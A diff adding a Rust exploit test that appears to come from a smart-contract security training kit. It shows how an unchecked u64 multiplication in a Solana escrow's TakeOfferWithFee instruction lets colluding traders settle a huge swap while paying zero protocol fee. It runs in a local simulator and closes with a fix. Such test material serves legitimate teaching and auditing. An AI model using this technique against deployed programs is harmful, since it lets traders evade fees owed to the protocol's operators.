@@ -0,0 +1,186 @@
+// Exploit: Fee Overflow (Unchecked Basis Point Multiplication)
+//
+// Vulnerability: TakeOfferWithFee computes amount * fee_bps in u64 with wrapping multiplication.
+// Attack: A pair of colluding traders sizes an offer so the product wraps to almost nothing.
+// Result: A huge swap settles through the marketplace while the protocol collects zero fee.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::types::TransactionResult;
+use litesvm_token::{
+    spl_token::state::Account as TokenAccount,
+    get_spl_account, MintTo,
+};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    native_token::LAMPORTS_PER_SOL,
+    pubkey::Pubkey,
+    signature::{Keypair, Signer},
+    transaction::Transaction,
+};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use spl_associated_token_account::get_associated_token_address;
+use solana_system_interface::program::ID as SYSTEM_PROGRAM_ID;
+
+// 1% protocol fee
+const FEE_BPS: u16 = 100;
+
+// Smallest payment whose product with FEE_BPS passes u64::MAX:
+// 184_467_440_737_095_517 * 100 wraps to 84, and 84 / 10_000 = 0
+const WRAPPING_TOKEN_B_AMOUNT: u64 = 184_467_440_737_095_517;
+
+// What the fee should have been, computed without overflow
+const EXPECTED_FEE: u64 = 1_844_674_407_370_955;
+
+struct FeeOverflowState {
+    scenario: EscrowScenario,
+    fee_authority: Keypair,
+    fee_config_pda: Pubkey,
+}
+
+struct FeeOverflow;
+
+impl ExploitScenario for FeeOverflow {
+    type State = FeeOverflowState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V005",
+            title: "Fee Overflow - Unchecked Basis Point Multiplication",
+            severity: Severity::High,
+            lesson: "Take amount * fee_bps in u128 (or with checked_mul) before dividing by 10_000",
+        }
+    }
+
+    fn setup(&self) -> FeeOverflowState {
+        println!("[Scenario] Taker pays an amount sized to wrap the fee calculation");
+
+        let mut scenario = setup_escrow_scenario();
+
+        // Protocol charges 1% on every fee-taking take
+        let fee_authority = create_funded_account(&mut scenario.svm, LAMPORTS_PER_SOL);
+        let fee_config_pda = set_fee_config(&mut scenario.svm, &fee_authority, FEE_BPS);
+        println!("[Setup] Fee config: {} bps, authority {}", FEE_BPS, fee_authority.pubkey());
+
+        // The taker holds enough Token B to pay the wrapping amount
+        MintTo::new(
+            &mut scenario.svm,
+            &scenario.payer,
+            &scenario.mint_b,
+            &scenario.taker_ata_b,
+            WRAPPING_TOKEN_B_AMOUNT,
+        )
+        .owner(&scenario.payer)
+        .send()
+        .expect("Failed to mint to taker ATA B");
+
+        // The proposer asks for exactly the wrapping amount of Token B
+        let propose_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new(scenario.proposer.pubkey(), true),
+                AccountMeta::new_readonly(scenario.mint_a, false),
+                AccountMeta::new_readonly(scenario.mint_b, false),
+                AccountMeta::new(scenario.proposer_ata_a, false),
+                AccountMeta::new(scenario.offer_pda, false),
+                AccountMeta::new(scenario.vault_ata, false),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(SYSTEM_PROGRAM_ID, false),
+                AccountMeta::new_readonly(ASSOCIATED_TOKEN_PROGRAM_ID, false),
+            ],
+            data: build_propose_offer_data(
+                scenario.offer_id,
+                WRAPPING_TOKEN_B_AMOUNT,
+                TOKEN_A_OFFER_AMOUNT,
+                current_timestamp(&scenario.svm) + OFFER_DURATION_SECONDS,
+                &Pubkey::default(),
+                scenario.bump,
+            ),
+        };
+
+        let tx = Transaction::new_signed_with_payer(
+            &[propose_ix],
+            Some(&scenario.proposer.pubkey()),
+            &[&scenario.proposer],
+            scenario.svm.latest_blockhash(),
+        );
+        scenario.svm.send_transaction(tx).expect("ProposeOffer should succeed");
+        println!("[Setup] Offer created asking {} Token B", WRAPPING_TOKEN_B_AMOUNT);
+
+        FeeOverflowState {
+            scenario,
+            fee_authority,
+            fee_config_pda,
+        }
+    }
+
+    fn exploit(&self, state: &mut FeeOverflowState) -> TransactionResult {
+        let scenario = &mut state.scenario;
+        let proposer_ata_b = get_associated_token_address(&scenario.proposer.pubkey(), &scenario.mint_b);
+        let fee_vault = get_associated_token_address(&state.fee_authority.pubkey(), &scenario.mint_b);
+
+        // EXPLOIT: Nothing malformed - the amount alone makes the fee wrap to zero
+        println!("\n[Attack] Taker calls TakeOfferWithFee on the oversized offer...");
+
+        let take_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new(scenario.taker.pubkey(), true),
+                AccountMeta::new(scenario.proposer.pubkey(), false),
+                AccountMeta::new(proposer_ata_b, false),
+                AccountMeta::new_readonly(scenario.mint_b, false),
+                AccountMeta::new_readonly(scenario.mint_a, false),
+                AccountMeta::new(scenario.taker_ata_a, false),
+                AccountMeta::new(scenario.taker_ata_b, false),
+                AccountMeta::new(scenario.offer_pda, false),
+                AccountMeta::new(scenario.vault_ata, false),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(SYSTEM_PROGRAM_ID, false),
+                AccountMeta::new_readonly(ASSOCIATED_TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(state.fee_config_pda, false),
+                AccountMeta::new_readonly(state.fee_authority.pubkey(), false),
+                AccountMeta::new(fee_vault, false),
+            ],
+            data: build_take_offer_with_fee_data(),
+        };
+
+        let take_tx = Transaction::new_signed_with_payer(
+            &[take_ix],
+            Some(&scenario.taker.pubkey()),
+            &[&scenario.taker],
+            scenario.svm.latest_blockhash(),
+        );
+
+        scenario.svm.send_transaction(take_tx)
+    }
+
+    fn assert_impact(&self, state: &mut FeeOverflowState) -> u64 {
+        let scenario = &state.scenario;
+        println!("[VULNERABLE] TakeOfferWithFee succeeded with a wrapped fee!");
+
+        let proposer_ata_b = get_associated_token_address(&scenario.proposer.pubkey(), &scenario.mint_b);
+        let proposer_b: TokenAccount = get_spl_account(&scenario.svm, &proposer_ata_b)
+            .expect("Proposer ATA B should exist");
+        assert_eq!(proposer_b.amount, WRAPPING_TOKEN_B_AMOUNT);
+        println!("[EXPLOIT SUCCESS] Proposer received the full {} Token B", proposer_b.amount);
+
+        // The fee was zero, so the fee vault was never even created
+        let fee_vault = get_associated_token_address(&state.fee_authority.pubkey(), &scenario.mint_b);
+        let fee_vault_account = scenario.svm.get_account(&fee_vault);
+        assert!(
+            fee_vault_account.is_none() || fee_vault_account.unwrap().data.is_empty(),
+            "Fee vault should not receive anything"
+        );
+        println!("[Result] Protocol collected 0 Token B instead of {}", EXPECTED_FEE);
+        println!("[Analysis] A secure program would compute the fee in u128 and charge the full 1%.");
+
+        EXPECTED_FEE
+    }
+}
+
+#[test]
+fn test_exploit_fee_overflow() {
+    run_exploit(&FeeOverflow);
+}